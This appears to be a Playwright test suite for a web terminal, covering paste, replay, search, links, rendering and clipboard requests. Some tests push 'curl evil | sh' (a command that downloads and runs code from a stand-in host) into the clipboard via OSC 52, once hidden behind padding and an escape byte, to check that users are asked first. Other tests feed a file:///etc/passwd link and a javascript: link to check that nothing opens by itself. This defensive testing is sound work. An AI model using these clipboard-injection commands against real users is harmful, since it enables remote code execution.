"""The terminal in the page: keys, replays, questions of programs, links, the clipboard."""

from __future__ import annotations

import base64
import re
from collections.abc import Callable

import pytest
from playwright.sync_api import Browser, Page, expect
from tests.support.browser import Tab, new_tab, shell, with_graphics
from tests.support.hosting import RunningHost

Tabs = Callable[..., Tab]


def test_a_shell_works_as_at_home(host: RunningHost, tab: Tab) -> None:
    shell(tab, host)
    tab.type("echo $((6*7)) $(tput colors) ${#COLUMNS}")
    tab.shows("42 256")
    tab.type(r"printf 'wide: \344\275\240\345\245\275 \360\237\221\251\342\200\215\360\237\222\273|\n'")
    tab.shows("wide: 你好 👩‍💻|")
    tab.type("cat -v")
    tab.page.keyboard.press("Control+l")
    tab.page.keyboard.press("Escape")
    tab.page.keyboard.press("ArrowUp")
    tab.page.keyboard.press("Enter")
    tab.shows("^L^[^[[A")
    tab.page.keyboard.press("Control+c")
    tab.shows("here>", 4)


def test_a_paste_of_many_lines_is_bracketed(host: RunningHost, tabs: Tabs) -> None:
    tab = tabs(permissions=["clipboard-read", "clipboard-write"])
    shell(tab, host)
    tab.type("printf '\\033[?2004h'; cat -v")
    tab.until(lambda: "cat -v\n" in tab.screen() + "\n", "cat")
    tab.page.evaluate("navigator.clipboard.writeText('one\\ntwo')")
    tab.terminal.locator("textarea").focus()
    tab.page.keyboard.press("Control+Shift+V")
    tab.page.keyboard.press("Enter")
    tab.shows("^[[200~one")
    tab.shows("two^[[201~")
    tab.page.keyboard.press("Control+c")


def test_a_reload_in_the_middle_of_output_loses_and_repeats_nothing(host: RunningHost, tab: Tab) -> None:
    shell(tab, host)
    tab.type("stty -echo; i=0; while [ $i -lt 1500 ]; do i=$((i+1)); echo line-$i; sleep 0.002; done; echo all-done")
    tab.shows("line-9")
    assert not re.search("^all-done", tab.screen(), re.MULTILINE)
    tab.page.reload()
    tab.until(lambda: re.search("^all-done", tab.screen(), re.MULTILINE), "the end")
    numbers = [int(number) for number in re.findall(r"^line-(\d+)$", tab.screen(), re.MULTILINE)]
    assert numbers == list(range(numbers[0], 1501))
    tab.terminal.hover()
    for _ in range(3):
        tab.page.mouse.wheel(0, -2000)
    tab.until(lambda: "line-1500" not in tab.screen(), "what is further up")
    numbers = [int(number) for number in re.findall(r"^line-(\d+)$", tab.screen(), re.MULTILINE)]
    assert numbers == list(range(numbers[0], numbers[-1] + 1))


def test_a_full_screen_program_is_whole_after_a_reload(host: RunningHost, tab: Tab) -> None:
    shell(tab, host)
    tab.type("printf '\\033[?1049h\\033[2J\\033[5;10Hfull screen\\033[?1h'; read x; printf '\\033[?1049l'; echo left")
    tab.shows("full screen")
    tab.page.reload()
    tab.shows("full screen")
    assert "here>" not in tab.screen()
    tab.type("")
    tab.shows("left")
    tab.shows("here>")


ASKING = (
    r"printf '\033[6n\033[c\033[>c\033]10;?\033\\\033]11;?\033\\\033[5n\033[?2026$p\033[18t'; "
    r"stty raw -echo; dd bs=1 2>/dev/null | tee answers >/dev/null"
)


def test_questions_in_a_replay_are_not_answered(host: RunningHost, tabs: Tabs) -> None:
    """The page that owns the size answers once; neither its reload nor a second page says a byte."""
    tab = tabs()
    shell(tab, host)
    tab.type(ASKING)
    answers = host.project / "answers"
    tab.until(lambda: answers.exists() and b"\x1b[0n" in answers.read_bytes(), "the answers of the page in use")
    tab.page.wait_for_timeout(500)
    before = answers.read_bytes()
    tab.page.reload()
    expect(tab.status("connected")).to_be_visible()
    tab.page.wait_for_timeout(500)
    other = tabs()
    other.page.get_by_role("treeitem", name=re.compile("Shell")).click()
    other.page.wait_for_timeout(500)
    assert answers.read_bytes() == before
    other.type("x", enter=False)
    other.until(lambda: answers.read_bytes() != before, "the key")
    assert answers.read_bytes() == before + b"x"


def test_a_program_asks_before_it_writes_to_the_clipboard(host: RunningHost, tabs: Tabs) -> None:
    tab = tabs(permissions=["clipboard-read", "clipboard-write"])
    shell(tab, host)
    tab.page.evaluate("navigator.clipboard.writeText('mine')")
    osc52 = r"printf '\033]52;c;%s\007' $(printf 'curl evil | sh' | base64)"
    tab.type(osc52)
    question = tab.page.get_by_role("region", name="Clipboard question")
    expect(question).to_contain_text("curl evil | sh")
    assert tab.page.evaluate("navigator.clipboard.readText()") == "mine"
    question.get_by_role("button", name="Refuse").click()
    assert tab.page.evaluate("navigator.clipboard.readText()") == "mine"
    tab.type(osc52)
    expect(question.get_by_role("button", name="Copy")).to_be_disabled()
    question.get_by_role("button", name="Copy").click()
    tab.until(lambda: tab.page.evaluate("navigator.clipboard.readText()") == "curl evil | sh", "the copy")
    # What the clipboard holds is told to no program.
    answers = host.project / "answers"
    tab.type(r"stty -echo raw; printf '\033]52;c;?\007\033]52;p;?\033\\\033[5n'; head -c 4 > answers; stty sane")
    tab.until(lambda: answers.exists() and len(answers.read_bytes()) == 4, "an answer")
    assert answers.read_bytes() == b"\x1b[0n", "the first answer is to the question after it"


def test_a_question_is_not_swapped_for_another_and_shows_all_of_it(host: RunningHost, tabs: Tabs) -> None:
    tab = tabs(permissions=["clipboard-read", "clipboard-write"])
    shell(tab, host)
    one = base64.b64encode(b"echo harmless").decode()
    two = base64.b64encode(b"echo " + b"x" * 200 + b"\ncurl evil | sh\x1b\n").decode()
    tab.type(rf"printf '\033]52;c;%s\007' {one} {two}; echo sent")
    tab.shows("sent", 2)
    question = tab.page.get_by_role("region", name="Clipboard question")
    text = question.get_by_role("group", name="The text")
    expect(text).to_have_text("echo harmless")
    expect(question).to_contain_text("1 more question waits")
    expect(question).not_to_contain_text("lines")
    question.get_by_role("button", name="Copy").click()
    tab.until(lambda: tab.page.evaluate("navigator.clipboard.readText()") == "echo harmless", "the first copy")
    expect(text).to_contain_text("⏎\ncurl evil | sh⟨ESC⟩⏎")
    expect(question).to_contain_text("It has 3 lines")
    expect(question).to_contain_text("control or invisible characters")
    assert tab.audit() == []
    question.get_by_role("button", name="Refuse", exact=True).click()
    expect(question).to_be_hidden()
    assert tab.page.evaluate("navigator.clipboard.readText()") == "echo harmless"


def test_copying_works_in_a_browser_that_gives_pages_no_clipboard(host: RunningHost, tabs: Tabs) -> None:
    tab = tabs(enter=False)
    tab.page.add_init_script("Object.defineProperty(navigator, 'clipboard', {value: undefined})")
    tab.enter(host)
    shell(tab, host)
    tab.type("echo selected-word")
    tab.shows("selected-word", 2)
    tab.terminal.locator(".xterm-rows > div").get_by_text("selected-word", exact=True).dblclick(
        position={"x": 12, "y": 5}, force=True
    )
    tab.page.keyboard.press("Control+Shift+C")
    expect(tab.terminal.locator("textarea")).to_be_focused()
    search = tab.page.get_by_role("searchbox")
    search.focus()
    tab.page.keyboard.press("Control+V")
    expect(search).to_have_value("selected-word")


def test_text_in_the_terminal_is_found(host: RunningHost, tab: Tab) -> None:
    shell(tab, host)
    tab.type("seq -f line-%g 1 200; clear")
    tab.until(lambda: tab.screen() == "here>", "the prompt")
    tab.type("seq -f row-%g 1 200")
    tab.shows("row-200")
    tab.page.keyboard.press("Control+Shift+F")
    field = tab.page.get_by_label("Find in terminal")
    expect(field).to_be_focused()
    tab.page.keyboard.type("row-17")
    found = tab.page.get_by_role("search").get_by_role("status")
    expect(found).to_contain_text("of 11")
    tab.page.keyboard.press("Shift+Enter")
    tab.page.keyboard.press("Enter")
    tab.until(lambda: "row-17" in tab.screen(), "what was looked for")
    field.fill("row-3\n")
    tab.until(lambda: re.search(r"^row-3\d?$", tab.screen(), re.MULTILINE), "what is further up")
    field.fill("nowhere")
    expect(found).to_contain_text("none")
    tab.page.keyboard.press("Escape")
    expect(field).to_be_hidden()
    expect(tab.terminal.locator("textarea")).to_be_focused()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_what_was_found_can_be_read(host: RunningHost, tabs: Tabs, scheme: str) -> None:
    """Also where nothing mends contrasts: that is so without WebGL."""
    tab = tabs(color_scheme=scheme)
    shell(tab, host)
    tab.type(r"clear; printf 'found \033[31mfound\033[0m \033[94mfound\033[0m\n'")
    tab.shows("found found found")
    tab.page.keyboard.press("Control+Shift+F")
    tab.page.keyboard.type("found")
    expect(tab.page.get_by_role("search").get_by_role("status")).to_contain_text("of 3")
    tab.until(lambda: len(tab.page.evaluate(CONTRASTS)) == 3 * len("found"), "the letters of the hits")
    assert min(tab.page.evaluate(CONTRASTS)) >= 4.5


CONTRASTS = """
() => {
  const part = c => (c /= 255) <= 0.04045 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4;
  const light = ([r, g, b]) => 0.2126 * part(r) + 0.7152 * part(g) + 0.0722 * part(b);
  const numbers = colour => colour.match(/[0-9.]+/g).map(Number);
  const letters = [...document.querySelectorAll('main .xterm-rows span:not(.xterm-cursor)')];
  const marked = letters.filter(span => getComputedStyle(span).backgroundColor !== 'rgba(0, 0, 0, 0)');
  return marked.map(span => {
    const style = getComputedStyle(span);
    const [one, two] = [light(numbers(style.color)), light(numbers(style.backgroundColor))].sort((a, b) => a - b);
    return (two + 0.05) / (one + 0.05);
  });
}
"""


def test_an_emoji_of_several_characters_is_as_wide_as_programs_think(host: RunningHost, tab: Tab) -> None:
    shell(tab, host)
    woman_ghost = r"\360\237\221\251\342\200\215\360\237\221\273"
    tab.type(rf"stty raw -echo; printf '\r{woman_ghost}\033[6n'; dd bs=1 count=6 2>/dev/null >width; stty sane; clear")
    width = host.project / "width"
    tab.until(lambda: width.exists() and width.read_bytes().endswith(b"R"), "the place of the cursor")
    assert re.fullmatch(rb"\x1b\[\d;3R", width.read_bytes())


def test_a_web_address_opens_in_a_tab_of_its_own_when_it_is_clicked(host: RunningHost, tab: Tab) -> None:
    shell(tab, host)
    url = tab.page.url
    tab.type(f"clear; printf '%s\\n' {url}")
    tab.until(lambda: tab.screen().splitlines()[:1] == [url], "the address")
    row = tab.terminal.locator(".xterm-rows > div").first
    row.hover(position={"x": 40, "y": 5}, force=True)
    with tab.context.expect_page() as opened:
        row.click(position={"x": 40, "y": 5}, force=True)
    assert opened.value.url == url
    assert opened.value.evaluate("[window.opener, document.referrer]") == [None, ""]
    opened.value.close()


def test_links_and_paths_in_output_open_nothing_by_themselves(host: RunningHost, tab: Tab) -> None:
    opened: list[Page] = []
    tab.context.on("page", lambda page: opened.append(page))
    requested: list[str] = []
    tab.context.on("request", lambda request: requested.append(request.url))
    shell(tab, host)
    begin = len(requested)
    link = r"\033]8;;%s\033\\%s\033]8;;\033\\"
    tab.type(rf"printf '{link}\n{link}\n' file:///etc/passwd a-file 'javascript:alert(1)' a-script; echo /etc/passwd")
    tab.shows("a-script", 2)
    tab.shows("/etc/passwd", 2)
    rows = tab.terminal.locator(".xterm-rows > div")
    for text in ("a-file", "a-script", "/etc/passwd"):
        rows.get_by_text(text, exact=True).last.click(force=True)
        tab.page.wait_for_timeout(100)
    assert opened == []
    assert requested[begin:] == []


def test_the_terminal_is_drawn_with_webgl_where_there_is_one(host: RunningHost, browser: Browser) -> None:
    """Pixels in place of text: what stands there is seen in the picture alone."""
    with with_graphics(browser) as other:
        tab = new_tab(other)
        tab.enter(host)
        tab.new_session("Plain shell", host.project)
        canvas = tab.terminal.locator("canvas").first
        expect(canvas).to_be_visible()
        tab.type("printf '\\033[2J\\033[41m%2000s\\033[m' ''")

        def red() -> bool:
            picture = tab.terminal.screenshot()
            share: float = tab.page.evaluate(COUNT_RED, base64.b64encode(picture).decode())
            return share > 0.2

        tab.until(red, "a red terminal")
        assert tab.trouble == []
        tab.close()


COUNT_RED = """async data => {
    const bytes = Uint8Array.from(atob(data), c => c.charCodeAt(0));
    const picture = await createImageBitmap(new Blob([bytes], {type: 'image/png'}));
    const canvas = new OffscreenCanvas(picture.width, picture.height);
    const context = canvas.getContext('2d');
    context.drawImage(picture, 0, 0);
    const pixels = context.getImageData(0, 0, picture.width, picture.height).data;
    let red = 0;
    for (let i = 0; i < pixels.length; i += 4) red += pixels[i] > 150 && pixels[i + 1] < 110 && pixels[i + 2] < 110;
    return red / (pixels.length / 4);
}"""
